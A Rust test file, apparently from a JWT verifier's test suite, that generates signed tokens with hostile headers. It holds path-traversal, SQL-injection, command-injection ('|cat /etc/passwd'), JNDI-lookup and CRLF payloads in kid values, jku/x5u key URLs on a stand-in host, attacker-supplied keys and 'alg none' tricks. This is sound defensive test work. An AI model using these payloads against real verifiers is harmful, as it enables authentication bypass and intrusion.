//! Headers, all signed with the right key: what is refused is refused for what they say.

use serde_json::{Value, json};

use crate::jwt::Jwt;
use crate::world::People;

use super::Token;

const URL: &str = "https://evil.example/keys.json";

pub(super) fn tokens(_: &People, good: &Jwt) -> Vec<Token> {
    [types(good), key_ids(good), additions(good), not_ours(good), repeated(good), ill_typed_algorithms(good)]
        .concat()
}

fn types(good: &Jwt) -> Vec<Token> {
    let values = [
        json!("JWT"),
        json!("jwt"),
        json!("at+JWT"),
        json!("AT+JWT"),
        json!("application/at+jwt"),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at jwt"),
        json!("at%2Bjwt"),
        json!("rt+jwt"),
        json!("id+jwt"),
        json!("dpop+jwt"),
        json!("at"),
        json!("secevent+jwt"),
        json!(""),
        json!(null),
        json!(1),
        json!(true),
        json!(["at+jwt"]),
        json!({"at+jwt": 1}),
    ];
    let mut tokens: Vec<_> =
        values.into_iter().map(|typ| (format!("typ {typ}"), good.with_header("typ", typ).signed())).collect();
    tokens.push(("no typ".to_owned(), good.without_header("typ").signed()));
    tokens
}

fn key_ids(good: &Jwt) -> Vec<Token> {
    let header: Value = serde_json::from_str(&good.header).unwrap();
    let ours = header["kid"].as_str().unwrap();
    let values = [
        json!("unknown"),
        json!(""),
        json!("0"),
        json!("default"),
        json!(format!("{ours} ")),
        json!(format!("{ours}\0")),
        json!(&ours[..ours.len() - 1]),
        json!(format!("{ours}{ours}")),
        json!(format!("{ours},other")),
        json!("../../../../../../dev/null"),
        json!("/proc/self/environ"),
        json!("..\\..\\windows\\win.ini"),
        json!("file:///dev/null"),
        json!(URL),
        json!("' OR '1'='1"),
        json!("x' UNION SELECT 'secret"),
        json!("|cat /etc/passwd"),
        json!("${jndi:ldap://evil.example/x}"),
        json!("{{7*7}}"),
        json!("\r\nX-Injected: 1"),
        json!("k".repeat(4_000)),
        json!(null),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(true),
        json!([ours]),
        json!([]),
        json!({}),
        json!({ ours: ours }),
    ];
    let named = |kid: Value| {
        let shown: String = kid.to_string().chars().take(40).collect();
        let token = good.with_header("kid", kid);
        [
            (format!("kid {shown}"), token.signed()),
            (format!("kid {shown}, signed with no bytes"), token.signed_with(b"")),
        ]
    };
    values.into_iter().flat_map(named).collect()
}

/// Members that ask for something, or bring a key of their own.
fn additions(good: &Jwt) -> Vec<Token> {
    let jwk = json!({"kty": "oct", "k": "c2VjcmV0", "alg": "HS256"});
    let members = [
        ("jwk", jwk.clone()),
        ("jwk", json!({})),
        ("jwk", json!(null)),
        ("jku", json!(URL)),
        ("x5u", json!(URL)),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["alg", "typ"])),
        ("crit", json!(null)),
        ("crit", json!("exp")),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("zip", json!("")),
        ("cty", json!("JWT")),
        ("cty", json!("at+jwt")),
        ("enc", json!("A128GCM")),
        ("epk", jwk),
        ("p2s", json!("AAAA")),
        ("p2c", json!(2_147_483_647)),
        ("apu", json!("")),
        ("iss", json!("auth-server")),
        ("aud", json!("api")),
        ("nonce", json!("x")),
        ("url", json!(URL)),
        ("exp", json!(0)),
        ("Alg", json!("none")),
        ("ALG", json!("none")),
        ("alg ", json!("none")),
        ("Typ", json!("JWT")),
        ("", json!("")),
        ("__proto__", json!({"alg": "none"})),
    ];
    members
        .into_iter()
        .map(|(name, value)| {
            (format!("header with {name:?} {value}"), good.with_header(name, value).signed())
        })
        .collect()
}

/// Headers that are no JSON object, or only nearly.
fn not_ours(good: &Jwt) -> Vec<Token> {
    let header = good.header.as_str();
    let body = &header[1..header.len() - 1];
    let deep = 900;
    let headers = [
        ("empty", String::new()),
        ("white space", " ".to_owned()),
        ("null", "null".to_owned()),
        ("a number", "1".to_owned()),
        ("a string", "\"HS256\"".to_owned()),
        ("an empty object", "{}".to_owned()),
        ("an empty array", "[]".to_owned()),
        ("in an array", format!("[{header}]")),
        ("in an object", format!("{{\"header\":{header}}}")),
        ("as a list of values", "[\"HS256\",\"at+jwt\"]".to_owned()),
        ("twice", format!("{header}{header}")),
        ("with something behind it", format!("{header}x")),
        ("with NUL behind it", format!("{header}\0")),
        ("with a byte order mark", format!("\u{feff}{header}")),
        ("with a comment", format!("/**/{header}")),
        ("with a line comment", format!("{header}//")),
        ("with a comma too many", format!("{{{body},}}")),
        ("with single quotes", header.replace('"', "'")),
        ("without quotes", header.replace('"', "")),
        ("not closed", header[..header.len() - 1].to_owned()),
        ("with a lone surrogate", format!("{{{body},\"x\":\"\\ud800\"}}")),
        ("with a deep array", format!("{{{body},\"x\":{}{}}}", "[".repeat(deep), "]".repeat(deep))),
        ("as a deep array", format!("{}{}", "[".repeat(deep), "]".repeat(deep))),
        ("as a form", "alg=HS256&typ=at%2Bjwt".to_owned()),
        ("as YAML", "alg: HS256\ntyp: at+jwt\n".to_owned()),
    ];
    headers
        .into_iter()
        .map(|(what, text)| (format!("header {what}"), good.with_header_text(text).signed()))
        .collect()
}

/// A member that is there twice, and of which readers would believe either.
fn repeated(good: &Jwt) -> Vec<Token> {
    let body = &good.header[1..good.header.len() - 1];
    let again = [
        r#""alg":"HS256""#,
        r#""alg":"none""#,
        r#""\u0061lg":"none""#,
        r#""typ":"at+jwt""#,
        r#""typ":"JWT""#,
        r#""t\u0079p":"at+jwt""#,
        r#""kid":"other""#,
        r#""kid":null"#,
    ];
    again
        .into_iter()
        .flat_map(|again| {
            [
                (
                    format!("header with {again} before its own"),
                    good.with_header_text(format!("{{{again},{body}}}")).signed(),
                ),
                (
                    format!("header with {again} behind its own"),
                    good.with_header_text(format!("{{{body},{again}}}")).signed(),
                ),
            ]
        })
        .collect()
}

fn ill_typed_algorithms(good: &Jwt) -> Vec<Token> {
    let values = [
        json!(null),
        json!(256),
        json!(true),
        json!(["HS256"]),
        json!({"HS256": true}),
        json!(["none", "HS256"]),
    ];
    let mut tokens: Vec<_> =
        values.into_iter().map(|alg| (format!("alg {alg}"), good.with_header("alg", alg).signed())).collect();
    tokens.push(("no alg".to_owned(), good.without_header("alg").signed()));
    tokens
}
